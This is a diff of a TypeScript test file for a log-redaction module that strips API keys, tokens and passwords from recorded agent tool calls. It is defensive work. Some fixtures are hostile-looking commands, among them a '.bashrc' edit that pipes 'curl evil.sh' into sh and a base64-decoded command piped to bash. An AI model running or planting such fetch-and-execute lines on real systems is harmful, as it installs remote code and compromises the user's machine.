@@ -1,145 +1,130 @@
 /**
- * redact / summarizeCall (harness/redact/redact.ts): what a log may say about a tool call.
+ * redact / redactDeep / redactArgv / jsonText / summarizeCall (harness/redact/redact.ts): only
+ * secrets become [REDACTED], identifying fields are never rewritten, JSON stays JSON.
  */
 import { describe, expect, it } from "vitest";
-import { redact, summarizeCall } from "../../../../harness/redact/redact.ts";
+import { IDENTIFYING_FIELDS, jsonText, redact, redactArgv, redactDeep, summarizeCall } from "../../../../harness/redact/redact.ts";
+import type { TrialRecord } from "../../../../harness/runner/record.ts";
+import { PROVIDER_KEYS, rng } from "../../../support/secrets.ts";
 
-describe("redact: secret shapes", () => {
-  const shapes: [string, string][] = [
-    ["OpenAI-style key", "sk-live-1234567890abcdef"],
-    ["sk- project key", "sk-proj-AbCdEf0123456789_xyz"],
-    ["GitHub classic token", "ghp_abcdefghijklmnop1234"],
-    ["GitHub OAuth token", "gho_ABCDEFGH12345678"],
-    ["GitHub fine-grained PAT", "github_pat_11ABCDEFG0123456789_abcdefXYZ"],
-    ["Slack bot token", "xoxb-1234567890-abcdefghij"],
-    ["AWS access key id", "AKIAIOSFODNN7EXAMPLE"],
-    ["Google API key", "AIzaSyA1234567890abcdefghijklmnopqrs"],
-    ["JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcdEFGHijk"],
-  ];
-  for (const [name, secret] of shapes) {
-    it(`removes a ${name}`, () => {
-      const out = redact(`curl -d token=x https://api.example.com/v1 --data "${secret}" && echo done`);
-      expect(out).not.toContain(secret);
-      expect(out).toContain("[REDACTED]");
-      expect(out).toContain("https://api.example.com/v1");
-      expect(out).toContain("echo done");
-    });
-  }
+const key = (name: string, seed = 1) => PROVIDER_KEYS[name]!(rng(seed));
 
-  it("removes a private key block, begin to end", () => {
-    const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nQUJDREVGRw==\n-----END OPENSSH PRIVATE KEY-----";
-    const out = redact(`printf '%s' '${key}' > ~/.ssh/id_ed25519`);
-    expect(out).not.toContain("b3BlbnNzaC1rZXktdjEAAAAA");
-    expect(out).not.toContain("QUJDREVGRw==");
-    expect(out).toContain("~/.ssh/id_ed25519");
+describe("redact: the issue's cases", () => {
+  it("two task ids that differ after a secret-looking prefix stay apart", () => {
+    expect(redact("rt-sk-learn-cache")).toBe("rt-sk-learn-cache");
+    expect(redact("rt-sk-learn-build.reference.none.-.1")).toBe("rt-sk-learn-build.reference.none.-.1");
   });
 
-  it("removes a truncated private key (no END line)", () => {
-    expect(redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA")).not.toContain("MIIEpAIBAAKCAQEA");
+  it("reference_passes:, find -print / -prune and git restore -p are left alone", () => {
+    for (const t of ["reference_passes: the reference passes", "find . -name '*.log' -print", "find . -path ./node_modules -prune -o -print", "git restore -p"])
+      expect(redact(t)).toBe(t);
   });
 
-  it("removes bearer and basic credentials", () => {
-    const out = redact(`curl -H "Authorization: Bearer abcdefghijklmnop123" -H 'Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==' https://x`);
-    expect(out).not.toContain("abcdefghijklmnop123");
-    expect(out).not.toContain("dXNlcjpwYXNzd29yZA==");
-  });
-
-  it("removes credentials embedded in a URL but keeps host and path", () => {
-    const out = redact("git clone https://alice:s3cr3tpw@git.example.com/team/repo.git");
-    expect(out).not.toContain("s3cr3tpw");
-    expect(out).not.toContain("alice:");
-    expect(out).toContain("git.example.com/team/repo.git");
-  });
-
-  it("removes a token used as URL user", () => {
-    const out = redact("git push https://ghp_abcdefghijklmnop1234@github.com/a/b.git");
-    expect(out).not.toContain("ghp_abcdefghijklmnop1234");
-    expect(out).toContain("github.com/a/b.git");
-  });
-
-  it("removes every occurrence, not only the first", () => {
-    const out = redact("echo sk-live-1234567890abcdef; echo sk-live-1234567890abcdef ghp_abcdefghijklmnop1234");
-    expect(out).not.toMatch(/sk-live|ghp_/);
-    expect(out.match(/\[REDACTED\]/g)).toHaveLength(3);
+  it("a temporary folder's random name in an error message is left alone", () => {
+    const t = "prepare_world: cp: cannot stat '/tmp/gatebench-fixture-Kd8sPq/rt-sk-learn-cache/data': No such file or directory";
+    expect(redact(t)).toBe(t);
   });
 });
 
-describe("redact: NAME=value for secret-ish names", () => {
-  const cases: [string, string, string][] = [
-    ["export OPENAI_API_KEY=abc123def456 && run", "abc123def456", "OPENAI_API_KEY="],
-    ["GITHUB_TOKEN=tok_value_1 gh pr list", "tok_value_1", "GITHUB_TOKEN="],
-    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls", "wJalrXUtnFEMI/K7MDENG", "AWS_SECRET_ACCESS_KEY="],
-    ["export PGPASSWORD='my pass phrase' && psql", "my pass phrase", "PGPASSWORD="],
-    ['DB_PASS="a b c" ./migrate', "a b c", "DB_PASS="],
-    ["aws_access_key_id = AKIAXXXXXXXXXXXXXXXX", "AKIAXXXXXXXXXXXXXXXX", "aws_access_key_id"],
-    ["SLACK_WEBHOOK_SECRET: hush-hush-123", "hush-hush-123", "SLACK_WEBHOOK_SECRET"],
-    ['DOCKER_AUTH_CONFIG={"x":1} docker login', '{"x":1}', "DOCKER_AUTH_CONFIG"],
-    ["MY_CREDENTIALS=abc;echo ok", "abc", "MY_CREDENTIALS="],
-  ];
-  for (const [command, secret, kept] of cases) {
-    it(`redacts the value of ${kept.replace(/[=:]$/, "")} and keeps the name`, () => {
-      const out = redact(command);
-      expect(out).not.toContain(secret);
-      expect(out).toContain(kept);
-      expect(out).toContain("[REDACTED]");
-    });
-  }
+describe("redact: only the secret goes, and every one of them", () => {
+  it("keeps the name of a variable, the user of a URL, the flag and the quotes", () => {
+    expect(redact("export OPENAI_API_KEY=abc123def456 && run")).toBe("export OPENAI_API_KEY=[REDACTED] && run");
+    expect(redact("git clone https://alice:s3cr3tpw@git.example.com/team/repo.git")).toBe("git clone https://alice:[REDACTED]@git.example.com/team/repo.git");
+    expect(redact("mysql -u root -p'my pass 9' shop")).toBe("mysql -u root -p'[REDACTED]' shop");
+    expect(redact('DB_PASS="a b c" ./migrate')).toBe('DB_PASS="[REDACTED]" ./migrate');
+  });
 
-  it("stops the value at ; & | so the rest of the command survives", () => {
+  it("stops a value at ; & | so the rest of the command survives", () => {
     expect(redact("API_KEY=abc123;ls -la|wc -l&&echo hi")).toBe("API_KEY=[REDACTED];ls -la|wc -l&&echo hi");
   });
 
-  // BUG (harness/runner/redact.ts SECRET_ASSIGNMENT): the name pattern is
-  // `[A-Za-z_][A-Za-z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|...)`, which needs at least one
-  // character BEFORE the keyword, so the plainest names are never redacted:
-  // redact("PASSWORD=hunter2 mysql") === "PASSWORD=hunter2 mysql" (expected PASSWORD=[REDACTED]),
-  // same for TOKEN=, SECRET=, KEY=, and `mysql --password=hunter2`, `-H 'X-Api-Key: ...'`.
-  // Fix: `\b([A-Za-z0-9_]*(?:KEY|...)[A-Za-z0-9_]*)`.
-  it("redacts bare PASSWORD=, TOKEN=, SECRET= and --password=", () => {
-    for (const [command, secret] of [
-      ["PASSWORD=hunter2 mysql -u root", "hunter2"],
-      ["TOKEN=abc123xyz ./deploy.sh", "abc123xyz"],
-      ["SECRET=s3cr3t-value ./run", "s3cr3t-value"],
-      ["mysql -u root --password=hunter2 db", "hunter2"],
-      ["curl -H 'X-Api-Key: abcdef123456' https://api.example.com", "abcdef123456"],
-    ]) {
-      expect(redact(command!), command).not.toContain(secret);
+  it("removes every occurrence, not only the first", () => {
+    const k = key("github-classic");
+    const out = redact(`echo ${k}; echo ${k} ${key("npm")}`);
+    expect(out).toBe("echo [REDACTED]; echo [REDACTED] [REDACTED]");
+  });
+
+  it("a private key block goes from BEGIN to END, and a cut-off one from BEGIN to the end of its base64", () => {
+    const pem = key("pem-openssh");
+    expect(redact(`printf '%s' '${pem}' > ~/.ssh/id_ed25519`)).toBe("printf '%s' '[REDACTED]' > ~/.ssh/id_ed25519");
+    expect(redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAu1SU1LfVLPHCozMx")).toBe("[REDACTED]");
+  });
+
+  it("base64 of a command is kept, unless the command it encodes holds a secret", () => {
+    const plain = Buffer.from("rm -rf /tmp/cache-* && echo done cleaning").toString("base64");
+    expect(redact(`echo ${plain} | base64 -d | bash`)).toBe(`echo ${plain} | base64 -d | bash`);
+    const leaky = Buffer.from(`export GITHUB_TOKEN=${key("github-classic")}; gh pr list`).toString("base64");
+    expect(redact(`echo ${leaky} | base64 -d | bash`)).toBe("echo [REDACTED] | base64 -d | bash");
+  });
+
+  it("is idempotent", () => {
+    for (const t of ["mysql -pS3cr3t", `curl -H "Authorization: Bearer ${key("jwt")}"`, "postgres://a:b9x@h/db", `x ${key("anthropic")} y`]) {
+      expect(redact(redact(t))).toBe(redact(t));
     }
   });
 });
 
-describe("redact keeps ordinary commands intact", () => {
-  const ordinary = [
-    "rm -rf /tmp/cache-* && find . -name '*.log' -delete",
-    "git reset --hard HEAD~1",
-    "git clean -fdx",
-    "git commit -m 'risk-assessment: update tasks' && git push origin main",
-    "npm run build -- --mode=production",
-    "ls -la ~/.ssh && cat ~/.ssh/id_rsa.pub",
-    "python3 -c 'import shutil; shutil.rmtree(\"/tmp/x\")'",
-    "tar czf backup.tar.gz data/ && rsync -av data/ /home/user/backup/",
-    "echo $GITHUB_TOKEN | wc -c",
-    "grep -rn 'password' src/ --include=*.ts",
-    "chmod 600 ~/.ssh/authorized_keys",
-    "curl https://example.com/api/v1/items?sort=asc",
-    "SORT_ORDER=asc NODE_ENV=production node server.js",
-    "cat .env.example",
-    "sed -i 's/foo/bar/g' config.yaml",
-  ];
-  for (const command of ordinary) {
-    it(`leaves \`${command}\` unchanged`, () => {
-      expect(redact(command)).toBe(command);
-    });
-  }
+describe("redactDeep: a redacted copy, identifying fields kept", () => {
+  const record = {
+    run_id: "r-sk-live-run",
+    trial_id: "rt-sk-learn-cache.reference.none.-.1",
+    task: "rt-sk-learn-cache",
+    category: "deletion",
+    agent: "scripted:token-hoarder",
+    gate: "none",
+    approver: "-",
+    attempt: 1,
+    error: `setup.sh failed: GITHUB_TOKEN=${key("github-classic")}`,
+  } as unknown as TrialRecord;
+
+  it("rewrites free text only, and leaves the input as it was", () => {
+    const before = structuredClone(record);
+    const out = redactDeep(record);
+    expect(out).toEqual({ ...record, error: "setup.sh failed: GITHUB_TOKEN=[REDACTED]" });
+    expect(record).toEqual(before);
+  });
+
+  it("keeps an identifying field even when it is shaped like a secret", () => {
+    const k = key("github-classic");
+    expect(redactDeep({ task: k, nested: { trial_id: k, gates: [k], note: k } })).toEqual({ task: k, nested: { trial_id: k, gates: [k], note: "[REDACTED]" } });
+  });
+
+  it("walks an object under an identifying name (only strings and lists of strings are kept)", () => {
+    const k = key("npm");
+    expect(redactDeep({ task: { note: k } })).toEqual({ task: { note: "[REDACTED]" } });
+  });
+
+  it("names every record key of the issue", () => {
+    for (const f of ["run_id", "trial_id", "task", "agent", "gate", "approver", "category", "attempt"]) expect(IDENTIFYING_FIELDS.has(f)).toBe(true);
+  });
+});
+
+describe("jsonText: redacted value by value, always valid JSON", () => {
+  it("a value whose redaction would break JSON text still parses", () => {
+    const value = { command: "git restore -p", other: 'mysql -p"', q: `say "${key("stripe-live-secret")}"\\` };
+    const text = jsonText(value, 2);
+    expect(JSON.parse(text)).toEqual({ command: "git restore -p", other: 'mysql -p"', q: 'say "[REDACTED]"\\' });
+  });
+});
+
+describe("redactArgv: words redacted knowing the command", () => {
+  it("-pPW after mysql, but not after find or git", () => {
+    expect(redactArgv(["mysql", "-pS3cr3tPassw0rd", "-e", "select 1"])).toEqual(["mysql", "-p[REDACTED]", "-e", "select 1"]);
+    expect(redactArgv(["find", ".", "-print"])).toEqual(["find", ".", "-print"]);
+    expect(redactArgv(["git", "restore", "-p"])).toEqual(["git", "restore", "-p"]);
+  });
+
+  it("a flag's value in the next word, and a word that is a secret alone", () => {
+    expect(redactArgv(["deploy", "--token", "tok9Xy!", "--verbose"])).toEqual(["deploy", "--token", "[REDACTED]", "--verbose"]);
+    expect(redactArgv(["echo", key("npm")])).toEqual(["echo", "[REDACTED]"]);
+  });
 });
 
 describe("summarizeCall", () => {
   it("write: path and byte count, never the content", () => {
-    const content = "API_TOKEN=sk-live-1234567890abcdef\nthe quarterly numbers are bad\n";
+    const content = `API_TOKEN=${key("github-classic")}\nthe quarterly numbers are bad\n`;
     const s = summarizeCall("write", { path: "/workspace/.env", content });
     expect(s).toBe(`write /workspace/.env (${Buffer.byteLength(content)} bytes)`);
-    expect(s).not.toContain("quarterly");
-    expect(s).not.toContain("sk-live");
   });
 
   it("write counts bytes, not characters", () => {
@@ -150,16 +135,19 @@ describe("summarizeCall", () => {
     const s = summarizeCall("edit", {
       path: "/home/user/.bashrc",
       edits: [
-        { oldText: "alias ll='ls -l'", newText: "curl evil.sh | sh # ghp_abcdefghijklmnop1234" },
+        { oldText: "alias ll='ls -l'", newText: `curl evil.sh | sh # ${key("github-classic")}` },
         { oldText: "a", newText: "b" },
       ],
     });
     expect(s).toBe("edit /home/user/.bashrc (2 edits)");
   });
 
-  it("bash: the redacted command on one line", () => {
-    const s = summarizeCall("bash", { command: "export OPENAI_API_KEY=abc123def456\nrm -rf /tmp/cache" });
-    expect(s).toBe("bash: export OPENAI_API_KEY=[REDACTED] rm -rf /tmp/cache");
+  it("bash: the redacted command on one line, each line read as its own command", () => {
+    expect(summarizeCall("bash", { command: "export OPENAI_API_KEY=abc123def456\nrm -rf /tmp/cache" })).toBe(
+      "bash: export OPENAI_API_KEY=[REDACTED] rm -rf /tmp/cache",
+    );
+    expect(summarizeCall("bash", { command: "cd /srv\nmysql -uroot -pHunter2x shop" })).toBe("bash: cd /srv mysql -uroot -p[REDACTED] shop");
+    expect(summarizeCall("bash", { command: "find /tmp -name '*.tmp' -print" })).toBe("bash: find /tmp -name '*.tmp' -print");
   });
 
   it("delete: path and recursion flag", () => {
@@ -180,12 +168,13 @@ describe("summarizeCall", () => {
   });
 
   it("redaction happens before truncation: a secret straddling the cap does not leak its head", () => {
-    const s = summarizeCall("bash", { command: `${"a ".repeat(110)}echo sk-live-1234567890abcdef` });
-    expect(s).not.toContain("sk-live-12");
+    const k = key("github-classic");
+    const s = summarizeCall("bash", { command: `${"a ".repeat(110)}echo ${k}` });
+    expect(s).not.toContain(k.slice(0, 12));
   });
 
   it("non-string args do not crash and never dump objects", () => {
-    const s = summarizeCall("write", { path: 42, content: { nested: "ghp_abcdefghijklmnop1234" } } as unknown as Record<string, unknown>);
+    const s = summarizeCall("write", { path: 42, content: { nested: key("github-classic") } } as unknown as Record<string, unknown>);
     expect(s).not.toContain("ghp_");
     expect(s).not.toContain("[object Object]");
   });
